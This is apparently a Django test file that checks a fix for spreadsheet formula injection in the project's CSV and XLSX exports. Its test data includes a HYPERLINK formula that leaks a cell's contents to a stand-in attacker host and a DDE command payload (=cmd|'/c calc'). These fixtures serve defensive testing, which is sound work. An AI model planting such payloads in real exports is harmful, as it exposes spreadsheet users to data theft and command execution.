"""Formula injection (issue 10, found #9): no export, CSV or XLSX, can carry a live formula cell."""

import io

import openpyxl
import pytest
import tablib
from django.urls import reverse
from import_export import resources

from altena.exports import NeutraleResource, csv_response, herstel, neutraliseer
from netwerk.models import Partner
from netwerk.resources import PartnerResource
from tests.factories.netwerk import KernFactory, PartnerFactory

HYPERLINK = '=HYPERLINK("https://aanvaller.example/x?d="&A1,"Klik hier")'


@pytest.mark.parametrize(
    "waarde",
    [HYPERLINK, "+31 183 123456", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1", "  =1+1", "=cmd|'/c calc'!A0"],
)
def test_dangerous_text_is_quoted_and_restored(waarde):
    veilig = neutraliseer(waarde)
    assert veilig == "'" + waarde
    assert herstel(veilig) == waarde


@pytest.mark.parametrize("waarde", ["Welzijn Altena", "0183-123456", "", None, 42, -5, "'al gequote tekst"])
def test_harmless_values_pass_unchanged(waarde):
    assert neutraliseer(waarde) == waarde
    assert herstel(waarde) == waarde


def test_every_import_export_resource_derives_from_the_neutraliser():
    from django.contrib import admin

    for model_admin in admin.site._registry.values():
        for resource in getattr(model_admin, "resource_classes", []):
            assert issubclass(resource, NeutraleResource), resource
    # and every ModelResource subclass defined in the project
    project = [
        r
        for r in resources.ModelResource.__subclasses__()
        if not r.__module__.startswith("import_export") and r is not NeutraleResource
    ]
    assert not project, f"Resources not deriving from altena.exports.NeutraleResource: {project}"


@pytest.mark.django_db
def test_no_live_hyperlink_cell_comes_out_of_the_partner_xlsx_export(client_for, beheerder):
    kern = KernFactory(naam="Uppel")
    PartnerFactory(naam=HYPERLINK, omschrijving="@SUM(1)", telefoon="+31 183 123456", kernen=[kern])
    velden = {f"partnerresource_{naam}": "on" for naam in PartnerResource().get_export_order()}
    response = client_for(beheerder).post(
        reverse("admin:netwerk_partner_export"), {"format": "1", "resource": "0", **velden}
    )
    assert response.status_code == 200
    werkblad = openpyxl.load_workbook(io.BytesIO(response.content)).active
    cellen = [cel for rij in werkblad.iter_rows() for cel in rij]
    assert not [cel.coordinate for cel in cellen if cel.data_type == "f"], "live formula cell in export"
    assert "'" + HYPERLINK in [cel.value for cel in cellen]


@pytest.mark.django_db
def test_csv_export_quotes_and_round_trip_keeps_the_values(client_for, beheerder):
    kern = KernFactory(naam="Uppel")
    PartnerFactory(naam=HYPERLINK, telefoon="+31 183 123456", kernen=[kern])
    csv = PartnerResource().export().export("csv")
    assert "'=HYPERLINK" in csv and "\n=HYPERLINK" not in csv and ",=HYPERLINK" not in csv
    result = PartnerResource().import_data(tablib.Dataset().load(csv, format="csv"), dry_run=False)
    assert not result.has_errors() and not result.has_validation_errors()
    partner = Partner.objects.get()
    assert partner.naam == HYPERLINK and partner.telefoon == "+31 183 123456"


def test_csv_response_neutralises_every_cell():
    response = csv_response("x.csv", ["naam", "=kop"], [[HYPERLINK, 3], ["gewoon", "-1"]])
    tekst = response.content.decode("utf-8-sig")
    assert response["Content-Disposition"] == 'attachment; filename="x.csv"'
    regels = tekst.strip().splitlines()
    assert regels[0] == "naam;'=kop"
    assert regels[1].startswith("\"'=HYPERLINK") and regels[2] == "gewoon;'-1"
